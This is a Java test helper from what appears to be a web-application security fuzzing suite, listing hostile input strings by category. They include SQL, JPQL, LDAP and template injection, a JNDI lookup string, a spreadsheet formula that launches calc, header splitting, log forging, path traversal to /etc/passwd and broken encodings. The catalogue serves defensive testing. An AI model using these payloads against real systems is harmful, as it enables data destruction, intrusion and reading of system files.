package org.sena.browser.test.hostile;

import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Values that nobody means well with. All but the broken ones hold {@code @}, which stands for the
 * request's mark; texts are percent-encoded on the way, those in {@link #BROKEN} already are.
 */
final class Payloads {

    private static final Map<Mischief, List<String>> TEXTS =
            Map.ofEntries(
                    Map.entry(
                            Mischief.SQL,
                            List.of(
                                    "@' OR '1'='1",
                                    "@'; DROP TABLE sena_referral; --",
                                    "1 UNION SELECT null,null,'@'--",
                                    "@\\'; SELECT pg_sleep(20); --",
                                    "@%' AND 1=cast(version() as int)--")),
                    Map.entry(
                            Mischief.JPQL,
                            List.of(
                                    "@' OR 1=1 OR e.id LIKE '%",
                                    "@ ORDER BY (SELECT COUNT(x) FROM Object x)",
                                    ":@ ?1 {alias}.x",
                                    "@' MEMBER OF o.roles")),
                    Map.entry(
                            Mischief.LUCENE,
                            List.of(
                                    "@ +(((((((((((a OR b*) AND ~9",
                                    "*:* AND NOT @",
                                    "@:[* TO *] ^99999999999 ~~~",
                                    "/(@+)+$/ \"\"\"",
                                    "*".repeat(200) + "@?",
                                    "@ AND OR NOT && || ! ( ) { } [ ] ^ \" ~ * ? : \\ /")),
                    Map.entry(
                            Mischief.LDAP,
                            List.of("@*)(uid=*))(|(uid=*", "@)(&(objectClass=*)", "(!(@=\\00))")),
                    Map.entry(
                            Mischief.EXPRESSION,
                            List.of(
                                    "@${7919*7907}",
                                    "#{7919*7907}@",
                                    "@{{7919*7907}}",
                                    "<%= 7919*7907 %>@",
                                    "@*{7919*7907}",
                                    "=@+cmd|' /C calc'!A0",
                                    "${jndi:ldap://@.example/a}",
                                    "%{(#a=7919*7907)}@")),
                    Map.entry(
                            Mischief.HEADER_SPLIT,
                            List.of(
                                    "@\r\nX-Hostile: @",
                                    "@\r\n\r\n<@>",
                                    "/web/sena\r\nSet-Cookie: hostile=@",
                                    "@\nX-Hostile: @",
                                    "\u010D\u010AX-Hostile: @")),
                    Map.entry(
                            Mischief.LOG,
                            List.of(
                                    "@\n00:00:00 ERROR forged @",
                                    "@\r00:00:00 ERROR forged",
                                    "@\u001b[2J\u0007",
                                    "{} {} %s %n @")),
                    Map.entry(
                            Mischief.TRAVERSAL,
                            List.of(
                                    "../../../../../../etc/passwd",
                                    "..\\..\\..\\windows\\win.ini@",
                                    "/etc/passwd\u0000@.txt",
                                    "file:///etc/passwd",
                                    "....//....//etc/passwd",
                                    "WEB-INF/web.xml",
                                    "@/../../OSGI-INF/")),
                    Map.entry(
                            Mischief.MARKUP,
                            List.of(
                                    "<@ a=1>",
                                    "\"><@>",
                                    "\" @=\"1",
                                    "' @='1",
                                    "</title><@>",
                                    "</textarea><@>",
                                    "</script><@>",
                                    "javascript:@()",
                                    "JaVa\tScRiPt:@",
                                    "data:text/html,<@>",
                                    "//@.example/x",
                                    "https://@.example/",
                                    "\\\\@.example\\x",
                                    "`><@>",
                                    "<!--@--><@>",
                                    "&lt;@&gt;&#60;@>",
                                    "<svg/@ onload=@>")),
                    Map.entry(
                            Mischief.TYPE,
                            List.of(
                                    "[]",
                                    "{}",
                                    "null",
                                    "true",
                                    "@",
                                    "undefined",
                                    "[object Object]",
                                    "{\"@\":1}",
                                    "2027-02-30",
                                    "99:99",
                                    "0000-00-00T99:99:99Z",
                                    "not-a-uuid-@",
                                    "00000000-0000-0000-0000-000000000000",
                                    "",
                                    " ",
                                    "\u202e@\u202c",
                                    "\ud83d\ude00@\u0301\u0301\u0301")),
                    Map.entry(
                            Mischief.NUMBER,
                            List.of(
                                    "-1",
                                    "0",
                                    "2147483648",
                                    "-2147483649",
                                    "9223372036854775808",
                                    "1e400",
                                    "NaN",
                                    "Infinity",
                                    "-0",
                                    "0x7f",
                                    "1_000",
                                    "١٢٣",
                                    "1.7976931348623157E309",
                                    "9".repeat(400),
                                    "0." + "0".repeat(400) + "1")),
                    Map.entry(
                            Mischief.NUL,
                            List.of("@\u0000", "\u0000", "a\u0000b@", "\u0001\u0002@\u001f")));

    /** Percent-encoded bytes that are no UTF-8, or no percent-encoding. */
    private static final List<String> BROKEN =
            List.of(
                    "%C3%28@",
                    "%FF%FE%FD@",
                    "%C0%AE%C0%AE%2F@",
                    "%ED%A0%80@",
                    "%F8%88%80%80%80@",
                    "%E0%80%AF@",
                    "%F4%90%80%80",
                    "%",
                    "%zz@",
                    "%u0041@",
                    "@%C3");

    private Payloads() {}

    /** True when there are values of that kind. */
    static boolean has(Mischief mischief) {
        return TEXTS.containsKey(mischief)
                || mischief == Mischief.BROKEN_UTF8
                || mischief == Mischief.HUGE;
    }

    /** A value of that kind, percent-encoded. */
    static String encoded(Mischief mischief, String mark, Random random) {
        if (mischief == Mischief.BROKEN_UTF8) {
            return BROKEN.get(random.nextInt(BROKEN.size())).replace("@", mark);
        }
        return Field.encoded(text(mischief, mark, random));
    }

    /** A value of that kind as text. */
    static String text(Mischief mischief, String mark, Random random) {
        if (mischief == Mischief.HUGE) {
            int length = 1 << 8 + random.nextInt(10);
            return mark + "x".repeat(random.nextBoolean() ? length : Math.min(length, 4_001));
        }
        if (mischief == Mischief.BROKEN_UTF8) {
            return "\ud800" + mark;
        }
        List<String> texts = TEXTS.get(mischief);
        return texts.get(random.nextInt(texts.size())).replace("@", mark);
    }
}
